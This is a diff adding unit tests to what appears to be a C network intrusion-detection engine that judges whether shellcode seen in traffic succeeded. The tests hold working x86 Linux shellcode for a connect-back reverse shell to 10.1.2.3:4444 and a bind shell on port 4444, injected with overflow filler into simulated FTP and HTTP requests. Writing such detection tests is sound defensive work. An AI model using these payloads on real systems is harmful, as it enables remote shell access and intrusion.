@@ -5,6 +5,8 @@
 #include "engine/judge.h"
 #include "engine/occurrence_table.h"
 
+static const char *helper; /* that runs machine code */
+
 struct bench {
     struct judge *judge;
     struct talk *talk;
@@ -28,7 +30,8 @@ static int take(void *context, const struct packets *packets)
 static int set_up(void **state)
 {
     struct bench *bench = calloc(1, sizeof(*bench));
-    const struct judge_options options = {30 * TIME_SECOND, judged, bench};
+    const struct judge_options options = {
+        .wait = 30 * TIME_SECOND, .helper = helper, .judged = judged, .context = bench};
     *state = bench;
     bench->talk = talk_new(take, bench);
     return judge_new(&options, &bench->judge);
@@ -169,6 +172,80 @@ static void the_oldest_is_judged_early_when_too_many_wait(void **state)
     assert_int_equal(judge_counts(bench->judge)->judged, JUDGE_PENDING + 3);
 }
 
+/* Linux on x86: connect to 10.1.2.3:4444, or listen on 4444; then run /bin/sh. */
+#define SHELL                                                                                      \
+    "\x31\xc0\x50\x68\x6e\x2f\x73\x68\x68\x2f\x2f\x62\x69\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b"     \
+    "\xcd\x80"
+#define SOCKET "\x31\xdb\x53\x43\x53\x6a\x02\x89\xe1\x6a\x66\x58\xcd\x80\x96"
+#define CONNECT_BACK                                                                               \
+    SOCKET "\x68\x0a\x01\x02\x03\x66\x68\x11\x5c\x66\x6a\x02\x89\xe1\x6a\x10\x51\x56\x89\xe1"      \
+           "\x6a\x03\x5b\x6a\x66\x58\xcd\x80" SHELL
+#define LISTEN                                                                                     \
+    SOCKET "\x31\xd2\x52\x66\x68\x11\x5c\x66\x6a\x02\x89\xe1\x6a\x10\x51\x56\x89\xe1\x6a\x02\x5b"  \
+           "\x6a\x66\x58\xcd\x80\x6a\x01\x56\x89\xe1\x6a\x04\x5b\x6a\x66\x58\xcd\x80\x52\x52\x56"  \
+           "\x89\xe1\x6a\x05\x5b\x6a\x66\x58\xcd\x80" SHELL
+#define FILLING "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\xef\xbe\xad\xde\x90\x90\x90\x90"
+
+/* What a client of another protocol says, to which the server falls silent. */
+static void overflow(struct bench *bench, uint16_t port, struct bytes request)
+{
+    struct talk_line line = line_open(bench->talk, port);
+    line_say(&line, 0, request);
+    line_close(&line);
+}
+
+/* A connection to the victim's port 4444, which answers or doesn't. */
+static void enter(struct bench *bench, bool answers)
+{
+    struct talk_line line = {bench->talk, TALK_CLIENT, TALK_SERVER, 5000, 4444, {1, 1}};
+    line_put(&line, 0, 0, TCP_SYN, (struct bytes){0}, 0);
+    if (answers)
+        line_put(&line, 1, 0, TCP_SYN | TCP_ACK, (struct bytes){0}, 0);
+}
+
+static void machine_code_is_judged_by_what_it_would_connect_to(void **state)
+{
+    struct bench *bench = *state;
+    overflow(bench, 4000, BYTES("USER " FILLING CONNECT_BACK "\r\n"));
+    struct talk_line back = {bench->talk, TALK_SERVER, 0x0a010203, 3000, 4444, {1, 1}};
+    line_put(&back, 0, 0, TCP_SYN, (struct bytes){0}, 0);
+    pass(bench, 31);
+    expect(bench, " shellcode success 0\n");
+    assert_int_equal(judge_code_counts(bench->judge)->explained, 1);
+    pass(bench, 31);
+    /* in a header, and no connection; and what only looks like code */
+    ask(bench, 4001, "GET /x HTTP/1.0\r\nHost: h\r\nUser-Agent: " FILLING CONNECT_BACK "\r\n\r\n",
+        "");
+    overflow(bench, 4002, BYTES("\x31\xc0\xb0\x01\xcd\x80\xe8\xf0\xff\xff\xff\0\0\0\0"));
+    pass(bench, 31);
+    expect(bench, " none benign 0\n/x shellcode unknown 0\n");
+    assert_int_equal(judge_code_counts(bench->judge)->explained, 2);
+    for (uint16_t i = 0; i < 100; i++)
+        overflow(bench, (uint16_t)(5000 + i), BYTES("USER " CONNECT_BACK "\r\n"));
+    assert_int_equal(talk_hand(bench->talk), 0);
+    assert_int_equal(judge_code_counts(bench->judge)->explained, 2 + CODE_RUNS_A_SECOND);
+    assert_true(judge_code_counts(bench->judge)->skipped >= 100 - CODE_RUNS_A_SECOND);
+}
+
+static void a_port_it_opens_is_proof_when_it_answers(void **state)
+{
+    struct bench *bench = *state;
+    overflow(bench, 4000, BYTES("USER " FILLING LISTEN "\r\n"));
+    enter(bench, false);
+    pass(bench, 31);
+    expect(bench, " shellcode unknown 0\n");
+    overflow(bench, 4001, BYTES("USER " FILLING LISTEN "\r\n"));
+    enter(bench, true);
+    pass(bench, 31);
+    expect(bench, " shellcode success 0\n");
+    /* now the port is known to answer, so that it does so proves nothing any more */
+    pass(bench, 31);
+    overflow(bench, 4002, BYTES("USER " FILLING LISTEN "\r\n"));
+    enter(bench, true);
+    pass(bench, 31);
+    expect(bench, " shellcode unknown 0\n");
+}
+
 static struct occurrence occurrence_of(uint32_t host, int64_t time, enum occurrence_kind kind,
                                        const char *text)
 {
@@ -214,8 +291,9 @@ static void what_a_host_did_is_found_in_order(void **state)
     occurrence_table_free(table);
 }
 
-int main(void)
+int main(int argc, char **argv)
 {
+    helper = argc > 1 ? argv[1] : NULL;
 #define CASE(name) cmocka_unit_test_setup_teardown(name, set_up, tear_down)
     const struct CMUnitTest tests[] = {
         CASE(harmless_requests_are_told_at_once),
@@ -225,6 +303,8 @@ int main(void)
         CASE(a_dropped_file_that_is_asked_for_later_is_proof),
         CASE(alerts_are_told_with_their_exchange),
         CASE(the_oldest_is_judged_early_when_too_many_wait),
+        CASE(machine_code_is_judged_by_what_it_would_connect_to),
+        CASE(a_port_it_opens_is_proof_when_it_answers),
         cmocka_unit_test(what_a_host_did_is_found_in_order),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
